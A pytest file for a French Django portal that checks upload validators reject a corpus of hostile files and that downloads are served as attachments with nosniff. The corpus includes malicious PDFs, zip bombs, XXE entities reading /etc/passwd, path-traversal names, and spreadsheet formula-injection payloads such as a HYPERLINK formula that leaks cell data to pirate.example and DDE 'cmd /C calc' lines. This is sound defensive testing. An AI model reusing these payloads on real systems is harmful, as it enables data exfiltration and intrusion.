"""Hostile files (issue 8, point 5): every upload entry point of the portal refuses each file of
a corpus built here in code (PDFs with active content, disguised files, zip bombs, CSV
injection…) with a French message, writes nothing and never answers 500; every download is
an attachment with `nosniff`.

Upload entry points: the signature form of a convention (HTML) and the API's `signer` action
(both through `pvd.documents.validate_pdf`), the bulk import (`pvd.imports`), the Club's
attendance import (`club.presences`)."""

import io
import re
import zipfile
from pathlib import Path

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import Workbook
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from club.models import ImportPresences, Inscription, Participant
from conventions.enums import EtatConvention
from financements.models import Financement
from pvd.documents import validate_pdf
from pvd.fichiers import est_formule, nom_affiche, verifier_nom
from pvd.imports.lecture import FichierIllisible, lire
from pvd.imports.registre import IMPORTS
from pvd.models import EtatExport, EtatNote, Export, NoteSuivi, TransitionLog
from tests.club import conftest as club
from tests.conftest import fermer
from tests.fixtures_parcours import pdf_bytes

thematiques, webinaire_passe = club.thematiques, club.webinaire_passe  # the Club's fixtures
FINANCEMENTS = IMPORTS["financements"]
ENTETES = [c.entete for c in FINANCEMENTS.colonnes if c.entete != "Mesure (code)"]
LIGNE = ["DETR-1", "detr", "58079", "Halles", "2022", "12000", "Demandé", "", ""]


# The corpus -----------------------------------------------------------------------------------


def _action(**entries) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{k}"): v for k, v in entries.items()})


def _js() -> DictionaryObject:
    return _action(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert('pvd')"))


def _pdf(modifier=None, **encryption) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    root = writer._root_object
    match modifier:
        case "openaction_js":
            root[NameObject("/OpenAction")] = _js()
        case "names_js":
            tree = _action(Names=ArrayObject([TextStringObject("x"), writer._add_object(_js())]))
            root[NameObject("/Names")] = _action(JavaScript=tree)
        case "page_aa_js":
            writer.pages[0][NameObject("/AA")] = _action(O=writer._add_object(_js()))
        case "launch":
            root[NameObject("/OpenAction")] = _action(
                S=NameObject("/Launch"), F=TextStringObject("C:\\Windows\\System32\\calc.exe")
            )
        case "embedded_file":
            writer.add_attachment("facture.exe", b"MZ\x90\x00")
        case "xfa":
            root[NameObject("/AcroForm")] = _action(
                Fields=ArrayObject(), XFA=TextStringObject("<xdp:xdp/>")
            )
        case "goto":  # an ordinary PDF opening at its first page, fitted
            root[NameObject("/OpenAction")] = ArrayObject(
                [writer.pages[0].indirect_reference, NameObject("/Fit")]
            )
    if encryption:
        writer.encrypt(algorithm="AES-128", **encryption)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _sans_page() -> bytes:
    buffer = io.BytesIO()
    PdfWriter().write(buffer)
    return buffer.getvalue()


ACTIF = "il est refusé par sécurité"
# (name, content, the message's words)
PDF_HOSTILES = [
    ("javascript.pdf", lambda: _pdf("openaction_js"), "contient du JavaScript"),
    ("javascript-noms.pdf", lambda: _pdf("names_js"), "contient du JavaScript"),
    ("javascript-page.pdf", lambda: _pdf("page_aa_js"), "contient du JavaScript"),
    # The names written with #-escapes (/J#53 is /JS): pypdf decodes them, the check too.
    (
        "javascript-echappe.pdf",
        lambda: (
            _pdf("openaction_js")
            .replace(b"/JS ", b"/J#53 ")
            .replace(b"/JavaScript", b"/J#61vaScript")
        ),
        "contient du JavaScript",
    ),
    ("launch.pdf", lambda: _pdf("launch"), "lance un programme"),
    ("piece-jointe.pdf", lambda: _pdf("embedded_file"), "fichiers joints"),
    ("xfa.pdf", lambda: _pdf("xfa"), "formulaire dynamique"),
    (
        "chiffre.pdf",
        lambda: _pdf(user_password="secret", owner_password="proprietaire"),
        "protégé par un mot de passe",
    ),
    (
        "chiffre-sans-mot-de-passe-avec-js.pdf",
        lambda: _pdf("openaction_js", user_password="", owner_password="proprietaire"),
        "contient du JavaScript",
    ),
    ("page.pdf", lambda: b"<html><script>alert(1)</script></html>", "n’est pas un PDF"),
    ("polyglotte.pdf", lambda: b"%PDF-1.7\n<html><script>alert(1)</script></html>", "illisible"),
    ("tronque.pdf", lambda: pdf_bytes()[:200], "illisible"),
    ("sans-page.pdf", _sans_page, "aucune page"),
    ("convention.pdf.exe", pdf_bytes, "« .exe » : seuls les fichiers .pdf"),
    ("convention.exe.pdf", pdf_bytes, "contient l’extension « .exe »"),
    ("convention.pdf.html", pdf_bytes, "« .html » : seuls les fichiers .pdf"),
    ("convention.svg", pdf_bytes, "« .svg » : seuls les fichiers .pdf"),
]
PDF_ACCEPTES = [
    ("ouverture-premiere-page.pdf", lambda: _pdf("goto")),
    # Some e-signature tools lock the file (permissions, no password to open): readable.
    ("verrouille.pdf", lambda: _pdf(user_password="", owner_password="proprietaire")),
    ("Convention Mme. Dupont 12.05.2021", pdf_bytes),  # no type in the name: content decides
]


def _xlsx(rows) -> bytes:
    """A workbook whose cells are all values: a text starting with "=" stays a text."""
    classeur = Workbook()
    for i, row in enumerate(rows, start=1):
        for j, valeur in enumerate(row, start=1):
            cellule = classeur.active.cell(i, j, valeur)
            if isinstance(valeur, str):
                cellule.data_type = "s"
    sortie = io.BytesIO()
    classeur.save(sortie)
    return sortie.getvalue()


def _remplacer(contenu: bytes, membre: str, donnees: bytes) -> bytes:
    """The workbook with one of its members replaced (deflated)."""
    source = zipfile.ZipFile(io.BytesIO(contenu))
    sortie = io.BytesIO()
    with zipfile.ZipFile(sortie, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(
                info.filename, donnees if info.filename == membre else source.read(info)
            )
    return sortie.getvalue()


FEUILLE = "xl/worksheets/sheet1.xml"
NS = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
CELLULE = b'<row><c t="inlineStr"><is><t>' + b"A" * 40 + b"</t></is></c></row>"


def _bombe_volume() -> bytes:
    """60 Mo of one cell's text, 60 Ko once compressed."""
    cellule = (
        b'<row r="2"><c r="A2" t="inlineStr"><is><t>' + b"A" * (60 << 20) + b"</t></is></c></row>"
    )
    return _remplacer(
        _xlsx([ENTETES]),
        FEUILLE,
        b"<worksheet " + NS + b"><sheetData>" + cellule + b"</sheetData></worksheet>",
    )


def _bombe_taux() -> bytes:
    """12 Mo (below the size bound) compressed ~130 times."""
    return _remplacer(
        _xlsx([ENTETES]),
        FEUILLE,
        b"<worksheet " + NS + b"><sheetData>" + CELLULE * 300_000 + b"</sheetData></worksheet>",
    )


def _bombe_menteuse() -> bytes:
    """A sheet of 12 Mo whose zip directory claims 2 Ko: zipfile never inflates more than
    the claimed size, then finds the checksum wrong."""
    contenu = bytearray(_bombe_taux())
    vraie = 12 * 1024 * 1024
    nom = FEUILLE.encode()
    for signature, decalage in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        debut = contenu.find(signature, 0)
        while debut != -1:
            longueur_nom = 26 if signature == b"PK\x03\x04" else 28
            n = int.from_bytes(contenu[debut + longueur_nom : debut + longueur_nom + 2], "little")
            entete = 30 if signature == b"PK\x03\x04" else 46
            if bytes(contenu[debut + entete : debut + entete + n]) == nom:
                assert (
                    int.from_bytes(contenu[debut + decalage : debut + decalage + 4], "little")
                    > vraie
                )
                contenu[debut + decalage : debut + decalage + 4] = (2048).to_bytes(4, "little")
            debut = contenu.find(signature, debut + 4)
    return bytes(contenu)


def _entites(racine: bytes) -> bytes:
    """A billion laughs: entities that would expand to gigabytes."""
    doctype = (
        b'<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
        + b"".join(
            b'<!ENTITY %s "%s">' % (chr(98 + i).encode(), b"&%s;" % chr(97 + i).encode() * 10)
            for i in range(8)
        )
        + b"]>"
    )
    return _remplacer(
        _xlsx([ENTETES]), FEUILLE, b'<?xml version="1.0"?>' + doctype + racine.replace(b"@", b"&i;")
    )


FEUILLE_ENTITE = (
    b"<worksheet "
    + NS
    + b'><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>@</t></is></c></row>'
    + b"</sheetData></worksheet>"
)
FEUILLE_EXTERNE = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet '
    + NS
    + b'><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row>'
    + b"</sheetData></worksheet>"
)


# A sound header row, then a row cut short: openpyxl opens it and fails while reading rows.
TRONQUEE = (
    b"<worksheet "
    + NS
    + b'><dimension ref="A1:I2"/><sheetData><row>'
    + b"".join(b'<c t="inlineStr"><is><t>%s</t></is></c>' % entete.encode() for entete in ENTETES)
    + b'</row><row><c t="inlineStr"'
)


def _csv(*rows: list[str]) -> bytes:
    return "\n".join(";".join(row) for row in rows).encode()


ILLISIBLE_XLSX = "Ce classeur XLSX ne peut pas être lu"
BOMBE = "se décompresse en un volume anormal"
BINAIRE = "ni un CSV ni un classeur XLSX"
# (name, content, the message's words)
IMPORTS_HOSTILES = [
    ("bombe.xlsx", _bombe_volume, BOMBE),
    ("bombe-taux.xlsx", _bombe_taux, BOMBE),
    ("bombe-menteuse.xlsx", _bombe_menteuse, ILLISIBLE_XLSX),
    ("entites.xlsx", lambda: _entites(FEUILLE_ENTITE), ILLISIBLE_XLSX),
    (
        "entite-externe.xlsx",
        lambda: _remplacer(_xlsx([ENTETES]), FEUILLE, FEUILLE_EXTERNE),
        ILLISIBLE_XLSX,
    ),
    # Loads (the start of the sheet is sound), breaks while its rows are read.
    (
        "feuille-tronquee.xlsx",
        lambda: _remplacer(_xlsx([ENTETES]), FEUILLE, TRONQUEE),
        ILLISIBLE_XLSX,
    ),
    ("faux-zip.xlsx", lambda: b"PK\x03\x04" + b"pas une archive" * 10, ILLISIBLE_XLSX),
    (
        "texte.xlsx",
        lambda: _csv(ENTETES, LIGNE),
        "porte l’extension .xlsx mais n’est pas un classeur",
    ),
    ("page.xlsx", lambda: b"<html><script>alert(1)</script></html>", "n’est pas un classeur"),
    (
        "ancien.xls",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "« .xls » : seuls les fichiers .csv",
    ),
    ("import.csv.exe", lambda: _csv(ENTETES, LIGNE), "« .exe » : seuls les fichiers .csv"),
    ("import.exe.csv", lambda: _csv(ENTETES, LIGNE), "contient l’extension « .exe »"),
    ("vide.csv", lambda: b"", "Le fichier soumis est vide"),
    ("blanc.csv", lambda: b"\n \r\n;;\n", "Le fichier est vide"),
    ("trop-gros.csv", lambda: _csv(ENTETES) + b"\n" + b";" * (10 * 1024 * 1024), "dépasse 10 Mo"),
    ("binaire.csv", lambda: bytes(range(256)) * 64, BINAIRE),
    ("nul-tardif.csv", lambda: _csv(ENTETES, *[LIGNE] * 200, ["DETR-2\x00", *LIGNE[1:]]), BINAIRE),
    ("utf16.csv", lambda: _csv(ENTETES, LIGNE).decode().encode("utf-16"), BINAIRE),
    (
        "ligne-geante.csv",
        lambda: _csv(ENTETES, ["DETR-1", "detr", "58079", "x" * 200_000]),
        "une ligne est trop longue",
    ),
    (
        "mauvais-encodage.csv",
        lambda: "Référence;Montant\nÉtude;1".encode("mac_roman"),
        "Colonnes obligatoires absentes",
    ),
]
# A spreadsheet would run these cells: refused at import (and neutralised by every export).
FORMULES = [
    '=HYPERLINK("https://pirate.example/?"&A1;"Cliquez")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+A1",
    "@SUM(A1:A2)",
    "- Projet",
]


def test_the_corpus_is_what_it_claims():
    """The corpus must stay hostile: a generator that silently built a harmless file would
    make the refusals below pass for nothing."""
    assert b"/JS" in _pdf("openaction_js")
    assert b"/J#53" in PDF_HOSTILES[3][1]()
    assert b"/Launch" in _pdf("launch")
    assert b"/EmbeddedFile" in _pdf("embedded_file")
    assert b"/Encrypt" in _pdf(user_password="secret", owner_password="o")
    bombe = zipfile.ZipFile(io.BytesIO(_bombe_volume())).getinfo(FEUILLE)
    assert bombe.file_size > 60 << 20
    assert bombe.compress_size < 200 << 10
    taux = zipfile.ZipFile(io.BytesIO(_bombe_taux())).getinfo(FEUILLE)
    assert 10 << 20 < taux.file_size < 50 << 20
    assert taux.file_size > 100 * taux.compress_size
    assert zipfile.ZipFile(io.BytesIO(_bombe_menteuse())).getinfo(FEUILLE).file_size == 2048
    assert all(est_formule(f) for f in FORMULES)


# Signed PDFs ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("nom", "contenu", "message"), PDF_HOSTILES, ids=[c[0] for c in PDF_HOSTILES]
)
def test_the_validator_refuses_every_hostile_pdf(nom, contenu, message):
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError, match=re.escape(message)):
        validate_pdf(SimpleUploadedFile(nom, contenu()))


@pytest.mark.parametrize(("nom", "contenu"), PDF_ACCEPTES, ids=[c[0] for c in PDF_ACCEPTES])
def test_ordinary_pdfs_are_accepted(nom, contenu):
    validate_pdf(SimpleUploadedFile(nom, contenu()))


def _fichiers_stockes(settings) -> list[Path]:
    return [p for p in Path(settings.MEDIA_ROOT).rglob("*") if p.is_file()]


def _non_signee(adhesion) -> None:
    adhesion.refresh_from_db()
    assert adhesion.etat == EtatConvention.EN_PREPARATION
    assert not adhesion.document
    assert not TransitionLog.objects.filter(transition="signer").exists()


@pytest.mark.parametrize(
    ("nom", "contenu", "message"),
    [*PDF_HOSTILES, ("vide.pdf", lambda: b"", "Le fichier soumis est vide")],
    ids=[c[0] for c in PDF_HOSTILES] + ["vide.pdf"],
)
@pytest.mark.parametrize("canal", ["formulaire", "api"])
def test_a_hostile_pdf_signs_nothing_and_stores_nothing(
    as_persona, adhesion, settings, canal, nom, contenu, message
):
    client = as_persona("prefecture_58")
    document = SimpleUploadedFile(nom, contenu(), content_type="application/pdf")
    data = {"signee_le": "2021-06-21", "version": adhesion.version, "document": document}

    if canal == "formulaire":
        response = client.post(
            reverse("conventions:convention_sign", args=["adhesion", adhesion.pk]), data
        )
        assert response.status_code == 200  # the form again, with the message
        assert message in response.content.decode().replace("&#x27;", "'")
    else:
        response = client.post(reverse("api:convention-adhesion-signer", args=[adhesion.pk]), data)
        assert response.status_code == 400
        assert message in str(response.json())

    _non_signee(adhesion)
    assert _fichiers_stockes(settings) == []


@pytest.mark.parametrize("canal", ["formulaire", "api"])
def test_an_oversize_pdf_is_refused(as_persona, adhesion, settings, canal):
    client = as_persona("prefecture_58")
    gros = pdf_bytes() + b"%" * (20 * 1024 * 1024)  # a real PDF, padded past 20 Mo
    data = {
        "signee_le": "2021-06-21",
        "version": adhesion.version,
        "document": SimpleUploadedFile("gros.pdf", gros, content_type="application/pdf"),
    }
    url = (
        reverse("conventions:convention_sign", args=["adhesion", adhesion.pk])
        if canal == "formulaire"
        else reverse("api:convention-adhesion-signer", args=[adhesion.pk])
    )

    response = client.post(url, data)

    assert response.status_code == (200 if canal == "formulaire" else 400)
    assert "Le fichier pèse 20,0 Mo : 20 Mo au plus." in response.content.decode()
    _non_signee(adhesion)
    assert _fichiers_stockes(settings) == []


def _multipart(champs: dict[str, str], nom_fichier: str, contenu: bytes) -> tuple[bytes, str]:
    """A request body written by hand: the test client would clean the file's name itself."""
    limite = "----frontiere-pvd"
    parties = [
        f'--{limite}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'.encode()
        for k, v in champs.items()
    ]
    parties.append(
        f'--{limite}\r\nContent-Disposition: form-data; name="document"; '
        f'filename="{nom_fichier}"\r\nContent-Type: application/pdf\r\n\r\n'.encode()
        + contenu
        + b"\r\n"
    )
    return b"".join(
        parties
    ) + f"--{limite}--\r\n".encode(), f"multipart/form-data; boundary={limite}"


@pytest.mark.parametrize(
    "nom",
    [
        "../../../../etc/passwd.pdf",
        "..\\..\\Windows\\win.ini.pdf",
        "/etc/cron.d/pvd.pdf",
        "C:\\Users\\Public\\convention.pdf",
        "con\x00vention.pdf",
        "%2e%2e%2f%2e%2e%2fconvention.pdf",
        "&#46;&#46;&#47;convention.pdf",
    ],
)
def test_the_stored_name_is_generated_whatever_the_uploaded_name(
    as_persona, adhesion, settings, nom
):
    client = as_persona("prefecture_58")
    corps, type_contenu = _multipart(
        {"signee_le": "2021-06-21", "version": str(adhesion.version)}, nom, pdf_bytes()
    )

    response = client.post(
        reverse("conventions:convention_sign", args=["adhesion", adhesion.pk]),
        corps,
        content_type=type_contenu,
    )

    assert response.status_code == 302, response.content.decode()[:2000]
    adhesion.refresh_from_db()
    assert re.fullmatch(r"conventions/[0-9a-f]{32}\.pdf", adhesion.document.name)
    [stocke] = _fichiers_stockes(settings)
    assert stocke.resolve().is_relative_to(Path(settings.MEDIA_ROOT).resolve())


@pytest.mark.parametrize(
    ("nom", "affiche"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\boot.ini", "boot.ini"),
        ("con\x00vention\r\n.csv", "convention.csv"),
        ("", "fichier"),
        ("x" * 300 + ".csv", "x" * 100),
    ],
)
def test_a_name_shown_or_recorded_has_no_folder_nor_control_character(nom, affiche):
    assert nom_affiche(nom) == affiche


def test_names_without_a_type_or_with_a_date_are_left_to_the_content():
    verifier_nom("convention", (".pdf",))
    verifier_nom("Scan 12.05.2021", (".pdf",))
    verifier_nom("contact@mairie.com.pdf", (".pdf",))


# Bulk imports ---------------------------------------------------------------------------------


@pytest.fixture
def importeur(as_persona, monde, referentiel):
    return as_persona("prefecture_58")


def _importer(client, nom: str, contenu: bytes):
    return client.post(
        reverse("imports:importer", args=["financements"]),
        {"fichier": SimpleUploadedFile(nom, contenu, content_type="application/octet-stream")},
    )


@pytest.mark.parametrize(
    ("nom", "contenu", "message"), IMPORTS_HOSTILES, ids=[c[0] for c in IMPORTS_HOSTILES]
)
def test_a_hostile_import_file_is_refused_and_writes_nothing(importeur, nom, contenu, message):
    response = _importer(importeur, nom, contenu())

    assert response.status_code == 400
    assert message in response.content.decode().replace("&#x27;", "'")
    assert not Financement.objects.exists()
    assert not Financement.history.exists()


@pytest.mark.parametrize("formule", FORMULES)
def test_a_formula_in_an_imported_cell_is_refused_with_its_line_and_column(importeur, formule):
    contenu = _csv(
        ENTETES,
        LIGNE,
        ["DETR-2", "detr", "58079", formule.replace(";", ","), "2022", "12000", "Demandé", "", ""],
    )

    response = _importer(importeur, "lignes.csv", contenu)

    page = response.content.decode()
    assert response.status_code == 400
    assert "1 ligne est à corriger" in page
    assert "un tableur la lirait comme une formule" in page
    assert not Financement.objects.exists()


def test_signed_numbers_and_phone_numbers_are_not_formulas():
    assert not any(est_formule(v) for v in ["-12,5", "+33 3 86 27 00 00", "-", "+1 234,50 €"])
    assert all(est_formule(v) for v in ["=1+1", "+1+1", "-1-cmd", "@A1", "\t=1"])


def test_a_formula_in_an_xlsx_cell_is_refused_too(monde, referentiel):
    contenu = _xlsx(
        [ENTETES, ["X-1", "detr", "58079", '=HYPERLINK("http://x")', 2022, 12000, "Demandé"]]
    )

    [ligne] = lire(contenu, FINANCEMENTS.colonnes)

    assert [e.raison for e in ligne.erreurs] == [
        "commence par « = » : un tableur la lirait comme une formule, elle n’est pas acceptée "
        "(retirez ce signe)"
    ]


def test_a_bomb_is_stopped_before_openpyxl_reads_it(monkeypatch):
    import openpyxl

    def interdit(*args, **kwargs):
        raise AssertionError("openpyxl ne doit pas ouvrir une bombe")

    monkeypatch.setattr(openpyxl, "load_workbook", interdit)
    for bombe in (_bombe_volume, _bombe_taux):
        with pytest.raises(FichierIllisible, match=BOMBE):
            lire(bombe(), FINANCEMENTS.colonnes)


def test_openpyxl_parses_with_defusedxml():
    from openpyxl import DEFUSEDXML
    from openpyxl.xml import functions

    assert DEFUSEDXML is True
    assert functions.iterparse.__module__.startswith("defusedxml")


# The Club's attendance import -----------------------------------------------------------------

PARTICIPANTS = (
    "E-mail;Prénom;Nom;Commune;Code INSEE\ncamille.martin@gmail.com;Camille;Martin;;58079\n"
)
CLUB_HOSTILES = [
    ("vide.csv", b"", "Le fichier soumis est vide"),
    ("trop-gros.csv", PARTICIPANTS.encode() + b" " * (5 * 1024 * 1024), "dépasse 5 Mo"),
    ("binaire.csv", bytes(range(256)) * 64, "contenu binaire"),
    ("nul-tardif.csv", (PARTICIPANTS * 300 + "a@b.fr;A\x00;B;;\n").encode(), "contenu binaire"),
    ("classeur.csv", _xlsx([["E-mail"], ["a@b.fr"]]), "contenu binaire"),
    (
        "ligne-geante.csv",
        (PARTICIPANTS + "a@b.fr;" + "x" * 200_000 + "\n").encode(),
        "une ligne est trop longue",
    ),
    ("page.csv", b"<html><script>alert(1)</script></html>", "Aucune colonne d’adresse"),
    ("participants.csv.exe", PARTICIPANTS.encode(), "« .exe » : seuls les fichiers .csv"),
    ("participants.xlsx", _xlsx([["E-mail"], ["a@b.fr"]]), "« .xlsx » : seuls les fichiers .csv"),
    ("participants.html.csv", PARTICIPANTS.encode(), "contient l’extension « .html »"),
    (
        "formule-nom.csv",
        (PARTICIPANTS + 'jean@example.org;Jean;=HYPERLINK("http://x")\n').encode(),
        "un tableur la lirait comme une formule",
    ),
    (
        "formule-courriel.csv",
        (PARTICIPANTS + "=cmd@example.org;Jean;Dupont\n").encode(),
        "un tableur la lirait comme une formule",
    ),
    (
        "formule-prenom.csv",
        (PARTICIPANTS + "jean@example.org;@SUM(A1);Dupont\n").encode(),
        "un tableur la lirait comme une formule",
    ),
]


@pytest.mark.parametrize(
    ("nom", "contenu", "message"), CLUB_HOSTILES, ids=[c[0] for c in CLUB_HOSTILES]
)
def test_a_hostile_attendance_file_is_refused_and_writes_nothing(
    as_persona,
    webinaire_passe,
    nom,
    contenu,
    message,
):
    client = as_persona("anct")

    response = client.post(
        reverse("club:import_presences", args=[webinaire_passe.pk]),
        {"fichier": SimpleUploadedFile(nom, contenu, content_type="text/csv")},
    )

    assert response.status_code == 400
    assert message in response.content.decode().replace("&#x27;", "'")
    assert not Participant.objects.exists()
    assert not Inscription.objects.exists()
    assert not ImportPresences.objects.exists()


# Downloads ------------------------------------------------------------------------------------


@pytest.fixture
def telechargements(monde, anct, adhesion_signee, webinaire_passe):
    note = NoteSuivi.objects.create(
        perimetre="FR",
        date=timezone.localdate(),
        etat=EtatNote.PRETE,
        valeurs={},
        prete_le=timezone.now(),
    )
    note.fichier.save("x.pdf", ContentFile(pdf_bytes()))
    export = Export(
        auteur=anct, liste="dossiers", format="csv", colonnes=["code"], etat=EtatExport.PRET
    )
    export.fichier.save("x.csv", ContentFile(b"\xef\xbb\xbfCode INSEE\r\n58079\r\n"))
    return {
        "conventions:convention_document": ("anct", ["adhesion", adhesion_signee.pk]),
        "note_pdf": ("anct", [note.pk]),
        "exports:telecharger": ("anct", [export.pk]),
        "imports:modele": ("prefecture_58", ["financements", "csv"]),
        "imports:modele xlsx": ("prefecture_58", ["financements", "xlsx"]),
        "opendata_tableau_de_bord_csv": ("anonyme", []),
        "opendata_tableau_de_bord_json": ("anonyme", []),
        "conventions:opendata_communes": ("anonyme", []),
        "club:agenda_ics": ("anonyme", []),
        "club:evenement_ics": ("anonyme", [webinaire_passe.pk]),
        "club:evenement_inscriptions_csv": ("anct", [webinaire_passe.pk]),
        "club:import_presences_modele": ("anct", []),
    }


def _routes(resolver=None, namespace=""):
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            if pattern.namespace not in ("admin", "api"):
                ns = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                for route, name in _routes(pattern, ns):
                    yield str(pattern.pattern) + route, name
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield str(pattern.pattern), namespace + pattern.name


def test_every_download_route_is_in_the_table(telechargements):
    """A route serving a file (its path ends with a file's type, or it is a document or a
    download) must be listed above, so that its headers are checked."""
    fichiers = {
        name
        for route, name in _routes()
        if re.search(r"\.(csv|ics|json|pdf|xlsx|<str:format>)$|(document|telecharger)/$", route)
    }

    assert fichiers == {name.split()[0] for name in telechargements}


def _verifier_en_tetes(response) -> None:
    assert response.status_code == 200, response.request["PATH_INFO"]
    assert response["Content-Disposition"].startswith("attachment; filename=")
    assert response["X-Content-Type-Options"] == "nosniff"


def test_every_download_is_an_attachment_with_nosniff(as_persona, client, telechargements):
    for route, (persona, args) in telechargements.items():
        client.logout()
        response = as_persona(persona).get(reverse(route.split()[0], args=args))
        _verifier_en_tetes(response)
        fermer(response)  # a download holds its file open until then


def test_a_small_export_is_downloaded_at_once_as_an_attachment(as_persona, monde):
    response = as_persona("anct").post(
        reverse("exports:export_form", args=["dossiers"]), {"format": "csv", "colonnes": ["code"]}
    )

    _verifier_en_tetes(response)
